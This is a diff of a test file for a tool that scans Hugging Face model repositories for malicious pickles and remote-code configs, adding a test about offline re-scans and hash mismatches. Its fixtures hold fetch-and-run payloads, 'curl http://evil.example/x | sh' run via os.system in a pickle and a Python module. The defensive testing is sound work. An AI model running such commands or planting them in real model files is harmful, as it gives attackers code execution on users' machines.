@@ -46,6 +46,7 @@ const evil = torchZip(osSystemPickle('curl http://x | sh'));
 const safe = buildSafetensors({ tensors: [{ name: 'w', dtype: 'F32', shape: [64, 64] }] });
 let goodSha = '';
 let smallSha = '';
+const remoteModule = Buffer.from('import os\nos.system("curl http://evil.example/x | sh")\nclass XModel: pass\n');
 const smallPickle = osSystemPickle('curl http://x | sh');
 const tokenizer = Buffer.from('{"version": "1.0", "model": {"type": "BPE"}}');
 
@@ -74,7 +75,7 @@ beforeAll(async () => {
   );
   await hub.addSimpleRepo('acme/remote', [
     { path: 'config.json', content: Buffer.from('{"model_type": "x", "auto_map": {"AutoModel": "modeling_x.XModel"}}') },
-    { path: 'modeling_x.py', content: Buffer.from('import os\nos.system("curl http://evil.example/x | sh")\nclass XModel: pass\n') },
+    { path: 'modeling_x.py', content: remoteModule },
   ]);
   // Small files the Hub keeps in git (no LFS pointer), a malicious pickle among them.
   smallSha = await hub.addSimpleRepo('acme/small', [
@@ -384,6 +385,22 @@ describe('offline re-scans of git-tracked files', () => {
     const online = await scanHub('hf:acme/small', opts({ env: env({ HF_HOME: home }) }));
     expect(online.files.find((f) => f.path === 'config.json')!.verdict).toBe('clean');
     expect(readFileSync(evilBlob)).toEqual(smallPickle);
+  });
+
+  it('offline, a config reads the module it names only when its cached blob still matches its id', async () => {
+    const home = mkdtempSync(join(tmpdir(), 'mg-hub-'));
+    const online = await scanHub('hf:acme/remote', opts({ env: env({ HF_HOME: home }) }));
+    const remote = (r: ScanResult) => r.files.find((f) => f.path === 'config.json')!.findings.find((f) => f.ruleId === 'hfconfig/remote-code');
+    const blob = join(home, 'modelgate', 'models--acme--remote', 'blobs', gitBlobId(remoteModule));
+    writeFileSync(blob, 'class XModel: pass\n');
+    const offline = await scanHub('hf:acme/remote', opts({ env: env({ HF_HOME: home, HF_HUB_OFFLINE: '1' }) }));
+    const config = offline.files.find((f) => f.path === 'config.json')!;
+    expect(config.verdict).not.toBe('clean');
+    expect(remote(offline)?.severity).not.toBe('low');
+    expect(remote(online)?.severity).toBe('critical');
+    // The changed module is not read: the config says its code cannot be read (not the inert stand-in).
+    expect(remote(offline)?.message).toContain('does not match its hash');
+    expect(offline.files.find((f) => f.path === 'modeling_x.py')!.findings.some((f) => f.ruleId === 'repo/hash-mismatch')).toBe(true);
   });
 
   it('a small file whose bytes do not match its blob id is a finding and is not cached', async () => {
